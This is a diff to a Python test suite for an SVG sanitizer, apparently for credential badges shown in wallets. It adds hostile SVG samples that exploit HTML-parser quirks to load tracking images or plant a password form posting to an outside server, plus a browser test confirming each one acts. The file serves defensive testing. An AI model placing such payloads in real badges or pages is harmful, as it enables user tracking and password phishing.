@@ -41,6 +41,16 @@ HOSTILE = {
     "stylesheet pi": f'<?xml-stylesheet href="{{server}}/tracked.css"?><svg {NS}/>',
     "event handler": f'<svg {NS}\nonload="{RUN}"/>',
 }
+#: each is harmless opened as a document, but acts once a wallet or verifier puts the image into its own
+#: HTML page (inline, as many do): the HTML parser ends the SVG at an HTML-only element, and reads what is
+#: inside a <title> or <desc> as HTML (an <image> there becomes an <img>)
+INLINE = {
+    "html element ends the svg": f'<svg {NS}><img src="{{server}}/tracked.png"/></svg>',
+    "image in a title": f'<svg {NS}><title><image src="{{server}}/tracked.png"/></title></svg>',
+    "unprefixed foreign element": f'<svg {NS}><img xmlns="urn:x:badge" src="{{server}}/tracked.png"/></svg>',
+    "form after a paragraph": (f'<svg {NS}><p/><form action="{{server}}/tracked"><input name="password"/>'
+                               '<button id="r">Sign in</button></form></svg>'),
+}
 #: what real badges contain (gradients, links within the image, embedded PNG, an editor's metadata)
 PLAIN = [
     f'<svg {NS} viewBox="0 0 10 10"><circle r="4"/></svg>',
@@ -50,6 +60,9 @@ PLAIN = [
      '<use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>'
      '<style>rect { fill: url(#g) }</style><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
      '</metadata><text x="1" y="5">Č Ž</text></svg>'),
+    (f'<svg {NS} xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"><title id="t">Badge</title>'
+     '<desc>CNC operator, level 4</desc><sodipodi:namedview pagecolor="#ffffff"/><g><path d="M0 0h9v9z"/>'
+     '<text><tspan>Č</tspan></text></g><filter id="f"><feGaussianBlur stdDeviation="1"/></filter></svg>'),
 ]
 
 
@@ -75,16 +88,16 @@ def server() -> Iterator[tuple[str, list[str]]]:
 
 
 def _svg(name: str, server: str = "http://127.0.0.1:9") -> bytes:
-    return HOSTILE[name].replace("{server}", server).encode()
+    return {**HOSTILE, **INLINE}[name].replace("{server}", server).encode()
 
 
-@pytest.mark.parametrize("name", sorted(HOSTILE))
+@pytest.mark.parametrize("name", sorted(HOSTILE) + sorted(INLINE))
 def test_a_hostile_svg_is_refused(name: str) -> None:
     with pytest.raises(UnsafeSvg):
         check_svg(_svg(name))
 
 
-@pytest.mark.parametrize("name", sorted(HOSTILE))
+@pytest.mark.parametrize("name", sorted(HOSTILE) + sorted(INLINE))
 def test_a_hostile_svg_is_refused_at_its_line_in_a_mapping_file(name: str) -> None:
     uri = "data:image/svg+xml;base64," + base64.b64encode(_svg(name)).decode()
     text = (EXAMPLES / "vet-college.yaml").read_text("utf-8")
@@ -128,3 +141,31 @@ def test_each_refused_svg_would_have_acted_in_a_browser(server: tuple[str, list[
     # the event handler with a newline before it was refused by the old pattern too, and does not run
     # in an opened document without a load event on the root in every Chromium; all others act
     assert {name for name, did in acted.items() if not did} <= {"event handler"}, sorted(acted.items())
+
+
+@pytest.mark.browser
+def test_each_refused_inline_svg_would_have_acted_in_a_page(server: tuple[str, list[str]]) -> None:
+    """Put into an HTML page (``innerHTML``, as a wallet listing badges does), each SVG of ``INLINE``
+    makes Chromium fetch from another server, or (its button clicked) send a form there."""
+    from playwright.sync_api import sync_playwright
+
+    url, fetched = server
+    acted: dict[str, bool] = {}
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
+        try:
+            for name in sorted(INLINE):
+                page = browser.new_page()
+                before = len(fetched)
+                page.set_content("<!doctype html><title>wallet</title><div id=badge></div>")
+                page.evaluate("svg => { document.getElementById('badge').innerHTML = svg; }",
+                              _svg(name, url).decode())
+                page.wait_for_timeout(200)
+                if page.locator("#r").count():
+                    page.locator("#r").click()
+                    page.wait_for_timeout(300)
+                acted[name] = len(fetched) > before
+                page.close()
+        finally:
+            browser.close()
+    assert all(acted.values()), sorted(acted.items())
